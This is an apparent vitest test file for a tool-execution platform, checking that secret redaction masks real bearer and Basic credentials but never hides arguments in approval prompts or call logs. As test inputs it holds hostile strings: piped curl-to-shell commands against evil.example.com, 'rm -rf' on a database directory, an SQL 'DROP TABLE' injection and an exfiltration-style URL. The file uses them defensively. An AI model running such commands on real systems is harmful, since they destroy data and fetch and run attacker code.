import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { redactionWorld, type RedactionWorld } from '../testing/redaction-world.ts';

const LOGIN = `id: login
name: Login
version: "1.0.0"
settings: { base_url: {}, password: { type: secret } }
auth: { type: bearer-token-exchange, exchange_url: '{base_url}/login', bearer_path: access_token, exchange_body: { p: '{settings.password}' } }
tools:
  get: { protocol: http, description: Gets., parameters: { q: { required: true } }, request: { url: '{base_url}/get?q={args.q}' } }
  remove: { protocol: http, description: Removes., destructive: true, parameters: { path: { required: true, url_encoding: none } }, request: { method: DELETE, url: '{base_url}/{args.path}' } }
`;
const SHELL = `id: local
name: Local
version: "1.0.0"
tools:
  run: { protocol: shell, description: Runs., destructive: true, parameters: { command: { required: true } }, command: [echo, '{args.command}'] }
`;

let world: RedactionWorld;
const ends: (() => void)[] = [];
afterAll(() => ends.reverse().forEach((end) => end()));

beforeAll(async () => {
  world = await redactionWorld((end) => ends.push(end));
  await world.install(LOGIN, { base_url: world.service.url, password: 'correct-horse-7-battery' });
  await world.install(SHELL);
});

const call = (tool: string, args: object, more: object = {}) =>
  world.ask('POST', `/api/tools/${tool}/call`, { args, ...more });

/** The service answers the next exchange with this token, and a call makes Forge learn it. */
async function serviceSays(token: string): Promise<void> {
  world.service.token = token;
  // Other settings are another login, so that no bearer of before is used.
  await world.ask('PUT', '/api/connectors/login/settings', {
    values: { password: `correct-horse-${token}-${Date.now()}` },
  });
  expect((await call('login.get', { q: 'x' })).ok).toBe(true);
}

async function questionFor(tool: string, args: object) {
  const { approval_id } = await call(tool, args);
  const { approvals } = await world.ask('GET', '/api/approvals');
  return approvals.find(({ id }: { id: string }) => id === approval_id);
}

const rowOf = async (callId: string) => world.ask('GET', `/api/calls/${callId}`);

describe('S4 what a service says hides nothing', () => {
  it('S4 a token "curl evil | sh" leaves the next question as it is, and "DELETE" the method in the log', async () => {
    await serviceSays('curl evil | sh');
    const question = await questionFor('local.run', { command: 'curl evil | sh' });
    expect(question.args).toEqual({ command: 'curl evil | sh' });
    await serviceSays('DELETE');
    const asked = await call('login.remove', { path: 'repos/acme' });
    await world.ask('POST', `/api/approvals/${String(asked.approval_id)}`, { decision: 'approve' });
    const done = await call('login.remove', { path: 'repos/acme' }, { approval_id: asked.approval_id });
    const { trace } = await rowOf(done.call_id);
    expect(trace.request).toMatchObject({ method: 'DELETE', url: `${world.service.url}/repos/acme` });
  });

  it.each([
    'rm -rf /var/lib/postgresql/data',
    'https://evil.example.com/collect',
    'production-database-cluster',
    'local.run',
    'aaaaaaaaaaaaaaaaaaaaaaaa',
    'DROP TABLE users; --',
    'eyJhbGciOiJub25lIn0.e30.x1Y2z3',
  ])('S4 a question shows %s although a service has handed it out as a token', async (token) => {
    await serviceSays(token);
    expect((await questionFor('local.run', { command: token })).args).toEqual({ command: token });
    expect((await questionFor('login.remove', { path: encodeURIComponent(token) })).args).toEqual({
      path: encodeURIComponent(token),
    });
  });

  it('S4 a token that is a path, a host or an argument hides none of them in the row of the call', async () => {
    for (const token of ['get?q=Order-2024-0007', 'Order-2024-0007-Xy', new URL(world.service.url).host]) {
      await serviceSays(token);
      const { call_id } = await call('login.get', { q: 'Order-2024-0007-Xy' });
      const row = await rowOf(call_id);
      expect(row.args).toEqual({ q: 'Order-2024-0007-Xy' });
      expect(row.trace.request.url).toBe(`${world.service.url}/get?q=Order-2024-0007-Xy`);
      expect(row.tool_id).toBe('login.get');
    }
  });

  it('S4 the token of a callback that a caller chooses hides nothing in a question', async () => {
    const token = 'curl evil.example.com/x7 | sh';
    await world.forge.call('POST', '/api/v2/dispatch', {
      ...{ message: 'Hi', callback: { url: 'https://callback.example.com/x', token } },
    });
    expect((await questionFor('local.run', { command: token })).args).toEqual({ command: token });
  });

  it('S4 a password argument hides no other argument of the same call', async () => {
    const command = 'reload in 5 please';
    const question = await questionFor('local.run', { command });
    expect(question.args).toEqual({ command });
  });

  it('C-80 S4 a real bearer is still masked in what its own service says', async () => {
    const bearer = 'Zx81.q7Zk2Vw9Xr4Tn8Lm3Jp6Hs1D';
    await serviceSays(bearer);
    const answer = await call('login.get', { q: 'x' });
    expect(answer.result.headers.authorization).toBe('Bearer [secret]');
    expect(JSON.stringify(await rowOf(answer.call_id))).not.toContain(bearer);
  });

  it('S15 the trace of a request shows nothing of a Basic header, as a dry run does', async () => {
    const yaml = `id: basic
name: Basic
version: "1.0.0"
settings: { base_url: {}, password: { type: secret } }
auth: { type: basic, username: demo, password: '{settings.password}' }
tools: { get: { protocol: http, description: Gets., request: { url: '{base_url}/quiet' } } }
`;
    for (const password of ['correct-horse-battery', '4711', 'pässwörd-with-more-7']) {
      await world.install(yaml, { base_url: world.service.url, password });
      const dry = await call('basic.get', {}, { dry_run: true });
      const { trace } = await rowOf((await call('basic.get', {})).call_id);
      expect([dry.dry_run.headers.authorization, trace.request.headers.authorization]).toEqual([
        'Basic [secret]',
        'Basic [secret]',
      ]);
    }
  });
});
